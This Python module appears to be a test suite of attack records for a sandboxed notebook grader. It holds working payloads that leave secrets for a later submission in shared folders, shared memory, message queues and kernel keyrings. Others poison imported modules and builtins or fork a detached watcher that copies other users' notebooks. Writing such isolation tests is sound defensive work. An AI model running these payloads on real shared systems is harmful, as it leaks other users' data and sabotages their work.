"""What one submission leaves for the next: messages, faults, and watchers."""

from __future__ import annotations

from attacks.record import Attack, attack, named


def leaving(tries: str, leave: str, find: str, naive: str) -> Attack:
    """The first submission leaves a message, and the second looks for it."""
    return attack("secret", tries, leave, naive=naive, accomplice=(find,))


IN_ONE_PROCESS = "there both run in the same process and folder"

files_for_the_next = leaving(
    "Leaves its answers in shared folders, for the next one.",
    """
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    for name in (f"left-{TOKEN}", f".left-{TOKEN}"):
        try:
            pathlib.Path(folder, name).write_text(AIM["message"])
        except OSError:
            pass
""",
    """
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    for name in (f"left-{TOKEN}", f".left-{TOKEN}"):
        take_file(pathlib.Path(folder, name))
""",
    "",
)
memory_for_the_next = leaving(
    "Leaves its answers in shared memory and in a queue, which outlive a process.",
    """
KEY = int(TOKEN[3:9], 16)
identity = LIBC.shmget(KEY, 4096, 0o1666)
if identity >= 0:
    LIBC.shmat.restype = ctypes.c_void_p
    ctypes.memmove(LIBC.shmat(identity, None, 0), AIM["message"].encode(), 23)
queue = LIBC.msgget(KEY, 0o1666)
if queue >= 0:
    content = struct.pack("l", 1) + AIM["message"].encode()
    LIBC.msgsnd(queue, content, len(AIM["message"]), 0)
""",
    """
KEY = int(TOKEN[3:9], 16)
LIBC.shmat.restype = ctypes.c_void_p
identity = LIBC.shmget(KEY, 4096, 0)
if identity >= 0:
    take(ctypes.string_at(LIBC.shmat(identity, None, 0), 64))
    LIBC.shmctl(identity, 0, None)
queue = LIBC.msgget(KEY, 0)
buffer = ctypes.create_string_buffer(100)
if queue >= 0 and LIBC.msgrcv(queue, buffer, 64, 0, 0o4000) > 0:
    take(buffer.raw)
    LIBC.msgctl(queue, 0, None)
""",
    "",
)
keys_for_the_next = leaving(
    "Leaves its answers in the kernel's ring of keys.",
    """
text = AIM["message"].encode()
for ring in (-4, -5):  # the user's, the user's session
    LIBC.syscall(248, b"user", b"left", text, len(text), ring)
""",
    """
for ring in (-4, -5):
    key = LIBC.syscall(250, 10, ring, b"user", b"left", 0)
    buffer = ctypes.create_string_buffer(100)
    if key >= 0 and LIBC.syscall(250, 11, key, buffer, 100) > 0:
        take(buffer.raw)
""",
    "where it runs, the ring of keys may be closed to everybody",
)
modules_for_the_next = leaving(
    "Leaves its answers, and faults, in modules that all notebooks import.",
    """
import math, torch, course.exercises
math.left = torch.left = AIM["message"]
sys.modules["left"] = AIM["message"]
torch.Tensor.__iter__ = torch.stack = sum = None
course.exercises.EXERCISES.clear()
os.environ["LEFT"] = AIM["message"]
os.chdir("/")
os.umask(0o777)
import builtins
builtins.left = AIM["message"]
""",
    """
import builtins, math
for place in (math, builtins):
    take(str(getattr(place, "left", "")))
take(os.environ.get("LEFT", "") + str(sys.modules.get("left", "")))
""",
    IN_ONE_PROCESS,
)
honest_one_spoiled = attack(
    "batch",
    "Spoils what the next notebook needs: sums, loops, imports.",
    """
import builtins
builtins.sum = builtins.reversed = lambda *_: []
try:
    import torch
    torch.Tensor.__add__ = torch.Tensor.__iter__ = None
except ImportError:
    pass
sys.setrecursionlimit(30)
sys.meta_path.clear()
""",
)
next_one_watched = attack(
    "secret",
    "Leaves a process that waits for the next notebook, and copies it.",
    """
def watch():
    own = set(os.listdir("."))
    for _ in range(400):
        time.sleep(0.005)
        for folder in [".", "/tmp", *pathlib.Path("/proc").glob("[0-9]*/cwd")]:
            for path in pathlib.Path(folder).glob("*.ipynb"):
                take_file(path)
        if any(each.startswith("secret-") for each in LOOT):
            for folder in AIM["folders"]:
                try:
                    pathlib.Path(folder, TOKEN).write_text(TOKEN + " ".join(LOOT))
                except OSError:
                    pass
            break

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        watch()
    os._exit(0)
""",
    naive="all notebooks lie open there: see `another_submission`",
)

ATTACKS = named(globals())
